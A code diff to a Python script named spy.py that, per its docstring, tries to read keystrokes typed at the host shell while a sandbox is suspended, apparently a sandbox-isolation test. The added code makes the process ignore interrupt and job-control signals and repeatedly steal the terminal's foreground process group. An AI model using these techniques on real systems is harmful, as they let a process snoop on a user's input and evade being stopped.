@@ -1,7 +1,8 @@
 """Try to read what is typed at the host's shell while the sandbox around this is suspended (B06).
 
-Usage: spy.py KIND FILE. What was read is added to FILE. The first process can be stopped like any other program;
-the spy behind it does what it can not to be.
+Usage: spy.py KIND FILE [MANNER]. What was read is added to FILE. The first process can be stopped like any other
+program; the spy behind it does what it can not to be. With the manner `deaf` the first process ignores every signal as
+well; as a `thief` it also takes the terminal back from whoever gets it.
 """
 
 from __future__ import annotations
@@ -124,7 +125,30 @@ def init(target: str) -> None:
 KINDS = {kind.__name__: kind for kind in (plain, timer, key, leaderless, rabbit, family, debugged, crowd, init)}
 
 
-def main(kind: str, target: str) -> None:
+def deaf() -> None:
+    for number in (signal.SIGINT, signal.SIGQUIT, signal.SIGHUP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU):
+        signal.signal(number, signal.SIG_IGN)
+
+
+def thief() -> None:
+    deaf()
+    accomplice = os.fork()
+    if accomplice == 0:
+        os.setpgid(0, 0)
+        while True:
+            time.sleep(1)
+    os.setpgid(accomplice, accomplice)
+    before = os.tcgetpgrp(0)
+    while True:
+        if os.tcgetpgrp(0) != before:
+            with contextlib.suppress(OSError):
+                os.tcsetpgrp(0, accomplice)
+
+
+MANNERS = {"deaf": deaf, "thief": thief}
+
+
+def main(kind: str, target: str, manner: str = "") -> None:
     if os.fork() == 0:
         if os.fork():
             os._exit(0)
@@ -138,6 +162,8 @@ def main(kind: str, target: str) -> None:
         time.sleep(0.01)
     sys.stdout.write("the spy is ready\n")
     sys.stdout.flush()
+    if manner:
+        MANNERS[manner]()
     while True:
         time.sleep(0.02)
 
